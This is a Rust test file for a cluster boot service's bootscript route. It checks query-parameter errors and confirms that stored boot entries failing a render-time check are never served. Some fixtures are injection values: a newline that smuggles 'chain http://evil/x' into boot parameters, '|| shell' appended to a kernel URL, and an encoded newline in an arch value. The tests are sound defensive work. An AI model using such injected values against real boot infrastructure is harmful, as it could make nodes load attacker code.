//! The bootscript route's input handling and the render-time check of stored data.

use std::sync::Arc;

use axum::http::StatusCode;
use cairn_protocols::BootKey;

use crate::fixture::{app, cluster, entry, get, state};

#[tokio::test]
async fn query_errors_name_the_parameter() {
    let app = app(&state(cluster()));
    for (query, detail) in [
        ("nid=abc", "nid: \\\"abc\\\" is not an integer"),
        ("name=x1000c0s0b0", ""),
        ("name=bogus", "name: invalid xname"),
        ("mac=aa:bb:cc:00:00:01&retry=-1", "retry: "),
        ("mac=aa:bb:cc:00:00:01&arch=x86%0A64", "arch: architecture"),
        ("mac=aa:bb:cc:00:00:01&json=yes", "json: "),
    ] {
        let r = get(&app, &format!("/boot/v1/bootscript?{query}"), None).await;
        if detail.is_empty() {
            // A BMC xname is a valid name that is no node: unknown, asked for its arch.
            assert_eq!(r.status, StatusCode::OK, "{query}");
            continue;
        }
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{query}: {}", r.body);
        assert!(r.body.contains(detail), "{query}: {}", r.body);
    }
    let r = get(&app, "/boot/v1/bootscript", None).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn empty_values_count_as_absent_and_mac_wins() {
    let app = app(&state(cluster()));
    let r = get(
        &app,
        "/boot/v1/bootscript?mac=&name=x1000c0s1b0n0&nid=1",
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.contains("xname=x1000c0s1b0n0"), "{}", r.body);
}

#[tokio::test]
async fn stored_data_that_fails_the_render_check_is_never_served() {
    let mut src = cluster();
    src.entries.insert(
        BootKey::Default,
        entry("http://h/k", "", "quiet\nchain http://evil/x"),
    );
    src.entries.insert(
        BootKey::Role("Compute".into()),
        Arc::new(cairn_protocols::BootEntry {
            kernel: "http://h/k || shell".into(),
            ..Default::default()
        }),
    );
    let app = app(&state(src));
    let r = get(&app, "/boot/v1/bootscript?mac=aa:bb:cc:00:00:03", None).await;
    assert_eq!(r.status, StatusCode::INTERNAL_SERVER_ERROR);
    assert!(
        r.body
            .contains("boot parameters of Default cannot be rendered: params: newline"),
        "{}",
        r.body
    );
    assert!(!r.body.contains("#!ipxe"));
    let r = get(&app, "/boot/v1/bootscript?mac=aa:bb:cc:00:00:02", None).await;
    assert_eq!(r.status, StatusCode::INTERNAL_SERVER_ERROR);
    assert!(
        r.body
            .contains("boot parameters of Compute cannot be rendered: kernel: space"),
        "{}",
        r.body
    );
}

#[tokio::test]
async fn json_for_unknown_without_arch_is_404() {
    let app = app(&state(cluster()));
    let r = get(
        &app,
        "/boot/v1/bootscript?mac=de:ad:be:ef:00:01&json=1",
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let r = get(
        &app,
        "/boot/v1/bootscript?mac=de:ad:be:ef:00:01&json=1&arch=x86_64",
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    let v: serde_json::Value = serde_json::from_str(&r.body).unwrap();
    assert_eq!(v["kernel"]["path"], "http://10.1.0.1/discovery/vmlinuz");
}
